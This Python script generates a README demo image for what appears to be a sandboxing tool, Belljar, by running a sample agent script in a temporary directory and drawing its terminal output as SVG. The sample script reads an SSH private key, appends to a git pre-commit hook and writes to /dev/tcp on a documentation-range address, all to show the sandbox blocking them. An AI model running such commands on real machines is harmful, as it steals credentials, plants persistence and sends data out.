#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""docs/demo/demo.py - the terminal picture of the README, from a real run

    demo.py ENGINE > docs/demo/demo.svg

A test runs it and compares: the picture shows what the program says today.
"""

from __future__ import annotations

import html
import os
import pathlib
import subprocess
import sys
import tempfile

HOME = "/home/ada"
SCRIPT = """\
cat ~/.ssh/id_ed25519
echo evil >> .git/hooks/pre-commit
echo hello > /dev/tcp/192.0.2.1/443
sleep 60
"""
COMMANDS = ("cat agent.sh", "belljar run --timeout 2s -- bash agent.sh", "echo $?")
WIDTH, LINE, TOP, LEFT = 760, 19, 44, 18


def make_project(home: pathlib.Path) -> pathlib.Path:
    """A repository with a hook, below a home with a key."""
    project = home / "project"
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("secret\n")
    hooks = project / ".git" / "hooks"
    hooks.mkdir(parents=True)
    for name in ("objects", "refs"):
        (project / ".git" / name).mkdir()
    (project / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (project / ".git" / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
    (hooks / "pre-commit").write_text("#!/bin/sh\n")
    (project / "agent.sh").write_text(SCRIPT)
    return project


def session(engine: str) -> list[str]:
    """What a terminal shows: each command behind a prompt, then what it prints."""
    with tempfile.TemporaryDirectory(prefix="belljar-demo-") as folder:
        home = pathlib.Path(folder).resolve()
        project = make_project(home)
        programs = home / "bin"
        programs.mkdir()
        (programs / "belljar").symlink_to(os.path.abspath(engine))
        # $? is the command's before, not that of the line that shows it.
        script = "".join(f"printf '%s\\n' '$ {command}'; (exit $status); {command}\nstatus=$?\n" for command in COMMANDS)
        done = subprocess.run(
            ["/bin/sh", "-c", f"exec 2>&1; status=0\n{script}"],
            cwd=project,
            env={"HOME": str(home), "PATH": f"{programs}:/usr/bin:/bin", "LANG": "C.UTF-8"},
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            timeout=60,
            check=True,
            text=True,
        )
        return done.stdout.replace(str(home), HOME).splitlines()


def color_of(line: str) -> str:
    """Commands stand out, Belljar's own words too, refusals are red."""
    if line.startswith("$ "):
        return "#e6edf3"
    if line.startswith("belljar:"):
        return "#e3b341"
    return "#ff7b72" if any(word in line for word in ("No such", "Read-only", "unreachable")) else "#8b949e"


def draw(lines: list[str]) -> str:
    """The picture."""
    height = TOP + LINE * len(lines) + 6
    parts = [
        f'<svg xmlns="http://www.w3.org/2000/svg" width="{WIDTH}" height="{height}" viewBox="0 0 {WIDTH} {height}" role="img">',
        "<title>A script that reads a key, plants a git hook, calls home and never ends, in a jar</title>",
        f'<rect width="{WIDTH}" height="{height}" rx="8" fill="#0d1117"/>',
        *(f'<circle cx="{18 + 18 * number}" cy="18" r="5" fill="{color}"/>' for number, color in enumerate(("#ff5f56", "#ffbd2e", "#27c93f"))),
        '<g font-family="ui-monospace, SFMono-Regular, Menlo, monospace" font-size="13" xml:space="preserve">',
    ]
    for number, line in enumerate(lines):
        parts.append(f'<text x="{LEFT}" y="{TOP + 8 + LINE * number}" fill="{color_of(line)}">{html.escape(line)}</text>')
    return "\n".join([*parts, "</g>", "</svg>", ""])


if __name__ == "__main__":
    sys.stdout.write(draw(session(sys.argv[1])))
